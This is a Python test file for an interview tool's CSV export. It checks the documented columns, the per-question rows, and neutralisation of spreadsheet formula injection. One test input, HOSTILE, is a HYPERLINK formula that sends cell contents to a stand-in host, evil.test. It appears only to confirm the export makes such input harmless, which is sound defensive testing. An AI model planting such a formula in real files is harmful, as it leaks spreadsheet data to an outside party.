"""The CSV of turns: its columns are the documented ones, and no spreadsheet finds a formula in it."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from interviewer.domain import Prediction, Session, Verdict, Wording
from interviewer.report.csv_report import COLUMNS, CUT, LONGEST, neutral, to_csv
from tests.builders import (
    a_follow_up,
    a_grade,
    a_plan,
    a_question,
    a_session,
    a_turn,
    an_abstained_grade,
    an_answer,
    at,
)

PAGE = Path(__file__).parents[2] / "docs" / "report.md"
SIGNS = "=+-@＝＋－＠﹢﹣−"
FORMULA = re.compile(rf"[\s\"]*[{re.escape(SIGNS)}]")


def rows(session: Session, delimiter: str = ",") -> list[dict[str, str]]:
    text = to_csv(session)
    assert text.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(text[1:], newline=""), delimiter=delimiter))


def test_a_row_a_question() -> None:
    grade = a_grade(None, Verdict.COVERED, Verdict.MISSING)
    probe = a_follow_up(answer=an_answer("It is slower."))
    first = a_turn(1, answer=an_answer(), grade=grade, follow_ups=(probe,), prediction=Prediction(0.9, at(2)))
    abstained = a_turn(2, answer=an_answer("Hm, “rows”."), grade=an_abstained_grade("Too short."))
    found = rows(a_session(first, abstained, a_turn(3, skipped=True)))
    assert [row["n"] for row in found] == ["1", "2", "3"]
    assert found[0]["answer"] == "I look at how many rows match."
    assert found[0]["follow_ups"] == "And what does it cost you?\nIt is slower."
    assert (found[0]["score"], found[0]["covered"], found[0]["missing"]) == ("0.6667", "2", "1")
    assert (found[0]["seconds"], found[0]["minutes_meant"], found[0]["expected"]) == ("180.0", "4", "0.9")
    assert (found[1]["score"], found[1]["covered"], found[1]["reason"]) == ("", "", "Too short.")
    assert found[1]["answer"] == "Hm, “rows”."
    assert (found[2]["answer"], found[2]["skipped"], found[2]["state"]) == ("", "1", "done")


def test_the_columns_are_the_documented_ones() -> None:
    page = PAGE.read_text(encoding="utf-8")
    table = page[page.index("## CSV") : page.index("## Disputed answers")]
    documented = re.findall(r"`(\w+)`", "".join(line.split("|")[1] for line in table.splitlines() if "| `" in line))
    assert tuple(rows(a_session(a_turn()))[0]) == COLUMNS
    assert sorted(documented) == sorted(COLUMNS)


def test_a_session_without_questions_is_the_head() -> None:
    assert to_csv(a_session()).count("\r\n") == 1


HOSTILE = '=HYPERLINK("http://evil.test?"&A1,"x")'


@pytest.mark.parametrize("sign", SIGNS)
def test_no_text_begins_like_a_formula(sign: str) -> None:
    assert neutral(f"{sign}1+1").startswith("'")
    assert neutral(f"  {sign}1+1") == f"  '{sign}1+1"
    assert neutral(f"a;{sign}1") == f"a;'{sign}1"
    assert neutral(f'a\t"{sign}1') == f"a\t\"'{sign}1"
    assert neutral(f"a\r\n{sign}1") == f"a\n'{sign}1"


def test_prose_stays_as_it_is() -> None:
    prose = "Reads - mostly - win: a=1, b = -2, user@host, x+y. “-”"
    assert neutral(prose) == prose


@given(st.text(max_size=60))
@example(HOSTILE)
@example(';"=1+1"')
@example("a\x00\x1b\r=1")
@example("\ud800")
@example('x","=1+1')
def test_no_cell_is_a_formula_however_the_file_is_split(text: str) -> None:
    question = a_question(text, topic=text, prompt=text, reference=text)
    probe = a_follow_up(wording=Wording(text), answer=an_answer(text))
    turn = a_turn(1, question, wording=Wording(text), answer=an_answer(text), follow_ups=(probe,))
    session = a_session(turn, plan=a_plan(loop=text), session_id=text)
    to_csv(session).encode("utf-8")
    assert len(rows(session)) == 1
    cells = [
        cell for by in ",;\t" for line in csv.reader(io.StringIO(to_csv(session)[1:]), delimiter=by) for cell in line
    ]
    cells += re.split(r"[;\t\n]", to_csv(session)[1:])  # programs that know no quotes
    assert not [cell for cell in cells if FORMULA.match(cell)]


def test_a_huge_answer_stays_in_its_cell() -> None:
    found = rows(a_session(a_turn(1, answer=an_answer("=" * 100_000))))
    assert len(found[0]["answer"]) <= LONGEST + 1
    assert found[0]["answer"].endswith(CUT)
